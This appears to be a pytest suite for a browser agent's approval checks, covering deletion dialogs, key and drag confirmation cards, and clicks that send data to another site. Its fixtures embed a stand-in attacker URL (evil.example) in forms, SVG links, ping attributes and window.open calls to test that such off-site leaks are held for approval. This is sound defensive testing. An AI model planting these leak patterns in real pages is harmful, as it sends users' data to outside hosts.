"""One deletion is one question; cards of keys and drags say what they do; what leaves is asked about."""

# ruff: noqa: E501 - page literals keep their lines
from typing import Any

import pytest

from widget.act.acting import Acting

LIST = """<ul><li>Order #1042 Ada <button onclick="d.showModal()">Delete</button></li></ul>
<dialog id=d aria-label="{0}"><p>{0}</p><button onclick="window.gone = (window.gone || 0) + 1; d.close()">Delete</button></dialog>"""


@pytest.mark.parametrize(
    ("question", "again"),
    [
        ("Delete this order?", False),
        ("Delete order #1042?", False),
        ("Delete order #1043?", True),
        ("Delete “Grace”?", True),
        ("Delete all orders?", True),
    ],
)
def test_the_dialog_that_asks_the_same_is_not_asked_about_anew(
    acting: Any, question: str, again: bool
) -> None:
    agent = acting(LIST.format(question))
    args = {"ref": agent.ref("Delete")}
    held = agent.act("click", args)
    agent.act("click", args, digest=held["approval"]["digest"])
    outcome = agent.act("click", at="dialog button")
    assert outcome["status"] == ("needs_approval" if again else "done"), outcome
    assert agent.state("window.gone || 0") == (0 if again else 1)
    # Behind the dialog that is still open nothing can be pressed.
    after = "failed" if again else "needs_approval"
    assert agent.act("click", args)["status"] == after


def test_an_approval_of_one_deletion_covers_no_second(acting: Any) -> None:
    agent = acting(LIST.format("Delete this order?"))
    args = {"ref": agent.ref("Delete")}
    held = agent.act("click", args)
    agent.act("click", args, digest=held["approval"]["digest"])
    agent.act("click", at="dialog button")
    agent.run("d.showModal()")
    assert agent.act("click", at="dialog button")["status"] == "needs_approval"
    assert agent.state("gone") == 1


def asked(agent: Any, held: dict[str, Any]) -> str:
    return agent.state(f"pf.approvals.find('{held['approval']['digest']}').message")


def test_a_card_of_a_key_names_it_and_where_it_goes(acting: Any) -> None:
    agent = acting("<textarea aria-label='Your message'>Hi</textarea>")
    held = agent.act("press_key", {"key": "Enter"}, name="Your message")
    assert asked(agent, held) == "Press Enter in “Your message”?"


def test_a_card_of_a_drag_names_both_ends(acting: Any) -> None:
    agent = acting(
        "<button draggable=true aria-label=Report>R</button><section aria-label=Trash><h2>Trash</h2></section>"
    )
    args = {"ref": agent.ref("Report"), "to": agent.ref("Trash")}
    held = agent.act("drag", args)
    assert held["status"] == "needs_approval", held
    assert asked(agent, held) == "Drag “Report” to “Trash”?"


FOREIGN = "https://evil.example/take"


@pytest.mark.parametrize(
    "html",
    [
        f"<form action={FOREIGN}><input name=q value=x><button>Next</button></form>",
        f"<form action=/a><button formaction={FOREIGN} name=q value=x>Next</button></form>",
        f"<svg width=90 height=40><a href='{FOREIGN}' role=link aria-label=Next><rect width=90 height=40 /></a></svg>",
        f"<svg width=90 height=40><a xlink:href='{FOREIGN}' role=link aria-label=Next><rect width=90 height=40 /></a></svg>",
        f"<a href=/ok ping={FOREIGN}>Next</a>",
        f"<a href=/ok target=_blank onclick=\"window.open('{FOREIGN}?d=' + 1)\">Next</a>",
        f"<a href='/go?url={FOREIGN}'>Next</a>",
    ],
)
def test_what_leaves_for_another_site_is_asked_about(acting: Any, html: str) -> None:
    agent = acting(html, paths={"/ok": "ok", "/go": "go"})
    sent: list[str] = []
    agent.page.on("request", lambda it: sent.append(it.url) if "evil.example" in it.url else None)
    outcome = agent.act("click", name="Next")
    agent.page.wait_for_timeout(50)
    assert outcome["status"] == "needs_approval", outcome
    assert sent == []


PLAN = """<section><h2>Pro</h2><button onclick="d.showModal()">Cancel plan</button></section>
<dialog id=d aria-label="Cancel plan?"><p>Cancel the plan Pro?</p><button onclick="window.gone = 1; d.close()">Cancel plan</button></dialog>"""


def test_other_kinds_are_one_question_too(acting: Any) -> None:
    agent = acting(PLAN)
    args = {"ref": agent.ref("Cancel plan")}
    held = agent.act("click", args)
    agent.act("click", args, digest=held["approval"]["digest"])
    assert agent.act("click", at="dialog button")["status"] == "done"
    assert agent.state("gone") == 1


ITEM = "<main><h1>Run loud-fox-31</h1><a href=/runs/31/delete>Delete</a></main>"
CONFIRM = """<main><h1>Delete</h1><p>Delete the run “{0}”?</p><form onsubmit="window.gone = 1; return false"><button>Yes, I'm sure</button></form></main>"""


def test_the_page_that_confirms_is_asked_about_anew(acting: Any) -> None:
    """What a document leaves to the next one any script of the page could have forged."""
    agent = acting(ITEM, paths={"/runs/31/delete": CONFIRM.format("loud-fox-31")})
    args = {"ref": agent.ref("Delete")}
    held = agent.act("click", args)
    assert held["status"] == "needs_approval"
    agent.begin("click", args, digest=held["approval"]["digest"])
    agent.page.wait_for_function("document.querySelector('form')")
    confirm = Acting(agent.page)
    assert confirm.act("click", at="form button")["status"] == "needs_approval"
